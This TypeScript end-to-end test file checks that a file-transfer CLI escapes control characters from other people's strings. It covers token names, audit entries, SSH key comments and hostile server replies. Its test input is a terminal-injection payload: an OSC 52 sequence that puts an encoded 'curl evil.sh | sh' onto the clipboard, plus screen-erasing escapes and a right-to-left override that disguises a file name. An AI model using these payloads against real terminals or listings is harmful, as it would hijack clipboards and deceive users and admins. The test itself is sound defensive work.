/**
 * What others wrote never reaches the terminal as control characters. An admin's listings
 * show strings other people chose: every user's token names (`token ls --all`), the user
 * name an anonymous client tried to log in with (`admin audit`);
 * and an error line shows what the server said. An ESC sequence in one of them, printed raw,
 * clears the screen, hides rows, retitles the window or (OSC 52) puts a command on the
 * clipboard. The CLI writes each control character out as `\xNN` instead.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ok, startWorld, type E2EWorld } from '../helpers/e2e.js';

// OSC 52 (clipboard := "curl evil.sh | sh"), then "cursor up, erase line", a bell, an 8-bit CSI.
const HOSTILE = 'x\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\u0007\u001b[1A\u001b[2K\r\u009b2Jy';
const SHOWN = 'x\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\\x07\\x1b[1A\\x1b[2K\\x0d\\x9b2Jy';
// eslint-disable-next-line no-control-regex
const CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

let w: E2EWorld;
let alice: string;

async function api(path: string, token: string | undefined, body: unknown): Promise<Response> {
  return fetch(`${w.server.url}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body: JSON.stringify(body),
  });
}

beforeAll(async () => {
  w = await startWorld();
  expect((await api('/api/v1/users', w.server.adminToken, { name: 'alice', password: 'Correct-Horse-alice-42x!' })).status).toBe(201);
  const login = await api('/api/v1/auth/login', undefined, { user: 'alice', password: 'Correct-Horse-alice-42x!' });
  alice = ((await login.json()) as { token: string }).token;
});
afterAll(async () => {
  await w?.close();
});

describe('strings other people chose, in the CLI', () => {
  it("shows a user's token name to the admin's `token ls --all` with its controls written out", async () => {
    // New names with controls are refused (test/server/label-controls.test.ts); one made
    // before that check is put in the metadata store as it was kept.
    expect((await api('/api/v1/tokens', alice, { name: HOSTILE, scopes: ['read'] })).status).toBe(400);
    expect((await api('/api/v1/tokens', alice, { name: 'named-before-the-check', scopes: ['read'] })).status).toBe(201);
    const db = new Database(join(w.server.dataDir, 'meta.db'));
    try {
      expect(db.prepare('UPDATE tokens SET name = ? WHERE name = ?').run(HOSTILE, 'named-before-the-check').changes).toBe(1);
    } finally {
      db.close();
    }
    const out = ok(await w.ferry(['token', 'ls', '--all'])).stdout;
    expect(out).toContain(SHOWN);
    expect(out).not.toMatch(CONTROLS);
    // --json is for programs: the name as it is.
    const json = JSON.parse(ok(await w.ferry(['token', 'ls', '--all', '--json'])).stdout) as Array<{ name: string }>;
    expect(json.map((t) => t.name)).toContain(HOSTILE);
  });

  it('shows the user name of an anonymous failed login in `admin audit` with its controls written out', async () => {
    expect((await api('/api/v1/auth/login', undefined, { user: HOSTILE, password: 'wrong' })).status).toBe(401);
    const out = ok(await w.ferry(['admin', 'audit', '--event', 'auth.login'])).stdout;
    expect(out).toContain(SHOWN);
    expect(out).not.toMatch(CONTROLS);
  });

  it("shows an SSH key's comment kept from before the check with its controls and direction controls written out (key ls, admin audit)", async () => {
    // A comment is shown to the key's owner and to admins; U+202E makes `x<RLO>gpj.exe` read `xexe.jpg`.
    const comment = 'x\u202egpj.exe\u001b[2K\u2066';
    const key = (c: string) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ${c}`;
    // New comments with them are refused; one kept from before that check is put in the store.
    expect((await api('/api/v1/users/alice/keys', w.server.adminToken, { keys: key('x\u202egpj.exe') })).status).toBe(400);
    expect((await api('/api/v1/users/alice/keys', w.server.adminToken, { keys: key('x\u009b2J') })).status).toBe(400);
    expect((await api('/api/v1/users/alice/keys', w.server.adminToken, { keys: key('key-before-the-check') })).status).toBe(201);
    const db = new Database(join(w.server.dataDir, 'meta.db'));
    try {
      expect(db.prepare('UPDATE ssh_keys SET comment = ? WHERE comment = ?').run(comment, 'key-before-the-check').changes).toBe(1);
      // The audit entry of the key's addition holds its comment as it was kept.
      expect(db.prepare("UPDATE audit SET details = replace(details, 'key-before-the-check', ?) WHERE event = 'user.key-add'").run(JSON.stringify(comment).slice(1, -1)).changes).toBe(1);
    } finally {
      db.close();
    }
    const direction = /[\u202a-\u202e\u2066-\u2069]/;
    const listed = ok(await w.ferry(['user', 'key', 'ls', 'alice'])).stdout;
    expect(listed).toContain('x\\u202egpj.exe\\x1b[2K\\u2066');
    expect(listed).not.toMatch(CONTROLS);
    expect(listed).not.toMatch(direction);
    const audit = ok(await w.ferry(['admin', 'audit', '--event', 'user.key-add'])).stdout;
    expect(audit).toContain('\\u202egpj.exe');
    expect(audit).not.toMatch(direction);
    const json = JSON.parse(ok(await w.ferry(['user', 'key', 'ls', 'alice', '--json'])).stdout) as Array<{ comment: string }>;
    expect(json.map((k) => k.comment)).toContain(comment);
  });

  it("writes out the controls of a server's error message, keeping its lines", async () => {
    const hostile: Server = createServer((_req, res) => {
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: { code: 'FERRY_ERR_VALIDATION', message: `${HOSTILE}\nsecond line` } }));
    });
    await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
      const r = await w.ferry(['ls', '/', '--server', url, '--token', 'ferry_0000000000000000_x', '--retries', '0']);
      expect(r.code).not.toBe(0);
      expect(r.stderr).toContain(`${SHOWN}\nsecond line`);
      expect(r.stderr).not.toMatch(CONTROLS);
    } finally {
      await new Promise<void>((resolve) => hostile.close(() => resolve()));
    }
  });
});

describe('what a hostile server answers, in the CLI', () => {
  // Whatever answers at the server's address chooses these strings; a Ferry server's own
  // never hold controls (names, user names and tokens refuse them), a hostile one's may.
  let hostile: Server;
  let url: string;
  const TOKEN = 'ferry_0000000000000000_' + 'x'.repeat(43);

  beforeAll(async () => {
    const capabilities = await (await fetch(`${w.server.url}/api/v1/capabilities`)).json();
    hostile = createServer((req, res) => {
      const send = (status: number, body: unknown) => {
        res.writeHead(status, { 'content-type': 'application/json' });
        res.end(JSON.stringify(body));
      };
      req.resume();
      req.on('end', () => {
        const path = new URL(req.url ?? '/', 'http://x').pathname;
        if (path === '/api/v1/capabilities') return send(200, { ...(capabilities as object), version: `1.0${HOSTILE}` });
        if (path === '/api/v1/me') {
          return send(200, { user: `eve${HOSTILE}`, role: 'user', home: `/h${HOSTILE}`, tokenId: `t${HOSTILE}`, scopes: [`read${HOSTILE}`], pathPrefix: `/p${HOSTILE}`, grants: [], usage: { bytes: 0, files: 0 }, limits: { quotaBytes: null, quotaFiles: null, maxFileSize: null, maxSessions: 1 }, uploadSessions: 0 });
        }
        if (path === '/api/v1/tokens' && req.method === 'GET') return send(200, []);
        if (path === '/api/v1/tokens') {
          return send(201, { id: `i${HOSTILE}`, userName: `eve${HOSTILE}`, name: 'n', scopes: [`read${HOSTILE}`], pathPrefix: `/p${HOSTILE}`, createdAt: 1, expiresAt: null, lastUsedAt: null, revokedAt: null, token: `ferry_${HOSTILE}` });
        }
        if (path === '/api/v1/shares') {
          return send(201, { id: `sh${HOSTILE}`, userName: 'eve', path: '/x', kind: 'download', name: 'x', hasPassword: false, expiresAt: null, maxUses: null, uses: 0, url: `http://elsewhere/s/k${HOSTILE}`, createdAt: 1, revokedAt: null });
        }
        if (path.startsWith('/api/v1/stat')) return send(200, { path: '/x', name: 'x', type: 'file', size: 1, mtime: 1 });
        send(404, { error: { code: 'FERRY_ERR_NOT_FOUND', message: 'no' } });
      });
    });
    await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await new Promise<void>((resolve) => (hostile ? hostile.close(() => resolve()) : resolve()));
  });

  it('writes out the controls of whoami, share, token create and login, and --json keeps them', async () => {
    const at = ['--server', url, '--token', TOKEN, '--retries', '0'];
    for (const args of [['whoami', ...at], ['share', '/x', ...at], ['token', 'create', '--name', 'n', ...at]]) {
      const r = await w.ferry(args);
      expect(r.code, `${args[0]}: ${r.stderr}`).toBe(0);
      expect(r.stdout + r.stderr).toContain(SHOWN);
      expect(r.stdout, args[0]).not.toMatch(CONTROLS);
      expect(r.stderr, args[0]).not.toMatch(CONTROLS);
    }
    const login = await w.ferry(['login', url, '--token', '-', '--name', 'hostile'], { input: TOKEN + '\n' });
    expect(login.code, login.stderr).toBe(0);
    expect(login.stderr).toContain(`as eve${SHOWN} (ferry 1.0${SHOWN})`);
    expect(login.stderr).not.toMatch(CONTROLS);
    // --json is for programs: the strings as the server sent them.
    const json = JSON.parse(ok(await w.ferry(['share', '/x', '--json', ...at])).stdout) as { url: string };
    expect(json.url).toBe(`http://elsewhere/s/k${HOSTILE}`);
  });
});

describe('local file names holding control characters, in messages that quote them', () => {
  // A newline, a carriage return (which would overwrite the start of the line) and an ESC
  // sequence (clear the screen): each file name may hold them, none may be sent to a server.
  const NAMES = ['a\nb', 'c\rd', 'e\u001b[2Jf'];
  const SHOWN_NAMES = ['a\\x0ab', 'c\\x0dd', 'e\\x1b[2Jf'];

  it('`put -r` writes each failure and the summary on one line, the names\' controls written out as sync and copy do', async () => {
    const src = join(w.dir, 'controls');
    await mkdir(src);
    for (const name of [...NAMES, 'ok.txt']) await writeFile(join(src, name), name);
    const r = await w.ferry(['put', '-r', src, '/controls']);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).not.toMatch(CONTROLS);
    const lines = r.stderr.trimEnd().split('\n');
    // One line per failed file, then the summary that quotes the first; nothing else.
    expect(lines).toHaveLength(NAMES.length + 1);
    for (const shown of SHOWN_NAMES) expect(lines.filter((l) => l.startsWith(`ferry: ${join(src, shown)}: `))).toHaveLength(1);
    expect(lines[NAMES.length]).toMatch(/^ferry: 3 of 4 files failed; first: .*(a\\x0ab|c\\x0dd|e\\x1b\[2Jf): .*\(FERRY_ERR_PATH_INVALID\)$/);
    // The file with a plain name went up all the same.
    expect(ok(await w.ferry(['cat', '/controls/ok.txt'])).stdout).toBe('ok.txt');

    // --json is for programs: each failure's details keep the name as it is.
    const json = await w.ferry(['put', '-r', '--json', src, '/controls-json']);
    expect(json.code).toBe(2);
    const errors = json.stderr.trimEnd().split('\n').map((l) => JSON.parse(l) as { error: { details: { path?: string } } });
    expect(errors.map((e) => e.error.details.path).filter(Boolean).sort()).toEqual(NAMES.map((n) => join(src, n)).sort());
  });

  it('the library\'s summary of a tree that failed is one line too (a log line, an error page)', async () => {
    const { TreeFailures } = await import('../../src/client/transfer.js');
    const failures = new TreeFailures(new AbortController().signal);
    failures.add('/in/a\nb', new Error("ENOENT: no such file or directory, open '/in/a\nb'"));
    let message = '';
    try {
      failures.settle({} as never, 2);
    } catch (err) {
      message = (err as Error).message;
    }
    expect(message).toBe("1 of 2 files failed; first: /in/a\\x0ab: ENOENT: no such file or directory, open '/in/a\\x0ab'");
  });
});
